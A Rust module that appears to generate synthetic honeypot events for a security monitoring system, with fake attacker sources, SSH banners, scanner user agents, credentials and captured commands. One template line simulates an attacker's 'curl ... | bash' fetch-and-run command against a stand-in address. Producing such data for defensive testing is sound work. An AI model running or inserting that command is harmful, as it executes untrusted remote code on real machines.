//! From numbers to an [`Event`].

use std::net::{IpAddr, Ipv4Addr};

use palisade_event::{
    Credentials, Domain, Endpoint, Event, EventId, EventKind, Fingerprints, Outcome, PayloadHash,
    SessionId, Timestamp, Transport, Untrusted,
};

use super::places::Places;
use super::words::{CATEGORIES, RARE, RARE_EVERY, Udp, Words};
use super::{Draft, mix, zipf};

const SYSTEMS: &[&str] = &[
    "Linux 3.11 and newer",
    "Linux 2.2.x-3.x",
    "Windows 7 or 8",
    "Windows NT kernel 5.x",
    "Linux 3.1-3.10",
    "FreeBSD 9.x or newer",
    "Mac OS X 10.x",
];
const CLIENTS: &[&str] = &[
    "SSH-2.0-Go",
    "SSH-2.0-libssh2_1.4.3",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-PUTTY",
    "SSH-2.0-paramiko_2.8.1",
    "SSH-2.0-JSCH-0.1.54",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/117.0.0.0 Safari/537.36",
    "python-requests/2.28.1",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "masscan/1.3",
];

fn of<'a>(list: &[&'a str], random: u64) -> Option<&'a str> {
    list.get(zipf(random, list.len() as u64) as usize).copied()
}

pub(super) fn make(draft: &Draft, places: &Places, words: &Words) -> Option<Event> {
    let at = Timestamp::from_millis(draft.at);
    let random = |salt: u64| mix(draft.random, salt);
    let session = |salt: u64| mix(draft.session, salt);
    let id = EventId::new(at, u128::from(random(31)) << 64 | u128::from(random(32)));
    let sensor = words.sensors.get(draft.sensor as usize)?;
    let category = CATEGORIES.get(draft.category as usize)?;
    let transport = Some(if category.udp == Udp::Yes { Transport::Udp } else { Transport::Tcp });
    let mut event = Event::new(id, draft.kind, at, sensor.clone());
    event.received_at = Some(at.plus_millis(draft.delay_ms));
    event.domain = if draft.sensor % 5 == 4 { Domain::Private } else { Domain::Community };
    event.category = words.categories.get(draft.category as usize).cloned();
    let (address, geo) = places.of(draft.identity)?;
    event.source_geo = geo.map(Box::new);
    let port = Some(1_024 + (session(33) % 64_000) as u16);
    event.source = Some(Endpoint { address, port, transport });
    let any_port = 1 + zipf(session(34), 65_000) as u16;
    event.target = Some(Endpoint {
        address: IpAddr::V4(Ipv4Addr::new(192, 0, 2, 1 + draft.sensor as u8)),
        port: Some(if category.port == 0 { any_port } else { category.port }),
        transport,
    });
    event.session = SessionId::new(&format!("{:012x}", draft.session >> 16)).ok();
    event.cve = (session(35) % 50 == 0).then(|| {
        format!("CVE-20{}-{}", 14 + session(36) % 12, 1_000 + zipf(session(37), 60)).into()
    });
    match draft.kind {
        EventKind::AuthAttempted => {
            event.credentials = Some(Credentials {
                username: words.user(random(38)).map(Untrusted::from),
                password: words.password(random(39)).map(Untrusted::from),
                outcome: Some(if draft.last && session(40) % 8 == 0 {
                    Outcome::Accepted
                } else {
                    Outcome::Failed
                }),
            });
        }
        EventKind::CommandEntered => {
            event.request = match RARE.get((random(41) % RARE_EVERY) as usize) {
                Some(rare) => Some(Untrusted::from(
                    format!("curl -fsSL http://203.0.113.9/{rare} | bash").as_str(),
                )),
                None => words.command(random(42)).map(Untrusted::from),
            };
            if session(43) % 3 == 0 {
                event.payload = Some(payload(zipf(session(44), 3_000)));
            }
        }
        EventKind::HttpRequested => {
            event.request = words.path(random(45)).map(Untrusted::from);
            event.fingerprints = Some(Box::new(Fingerprints {
                user_agent: of(AGENTS, session(46)).map(Untrusted::from),
                ..Fingerprints::default()
            }));
            if random(47).is_multiple_of(2) {
                event = event.with("status", 404i64);
            }
        }
        EventKind::DataReceived => {
            // Handshakes of binary protocols: no UTF-8.
            let opening = zipf(random(48), 400);
            let mut bytes = vec![0x16, 0x03, 0x01, 0x00, 0xf4, 0xff];
            bytes.extend_from_slice(&mix(opening, 49).to_be_bytes());
            event.request = Some(match opening % 3 {
                0 => Untrusted::new(bytes),
                _ => Untrusted::from(
                    format!("\\x00\\x00{opening:04x}SMBr version {opening}").as_str(),
                ),
            });
        }
        EventKind::SessionClosed => {
            event = event
                .with("reason", "client left")
                .with("duration_ms", (session(50) % 90_000) as i64)
                .with("bytes_in", (session(51) % 4_000) as i64);
        }
        _ => {}
    }
    if category.port == 22 && draft.step == 0 {
        event.client = of(CLIENTS, session(52)).map(Untrusted::from);
        let prints = event.fingerprints.get_or_insert_default();
        prints.hassh =
            Some(format!("{:032x}", u128::from(mix(zipf(session(53), 40), 54)) << 64).into());
    }
    if session(55) % 3 == 0 {
        event.fingerprints.get_or_insert_default().os = of(SYSTEMS, session(56)).map(Box::from);
    }
    Some(event)
}

fn payload(number: u64) -> PayloadHash {
    let mut hash = [0; 32];
    for (part, bytes) in (0u64..).zip(hash.chunks_mut(8)) {
        bytes.copy_from_slice(&mix(number, 60 + part).to_be_bytes());
    }
    PayloadHash(hash)
}
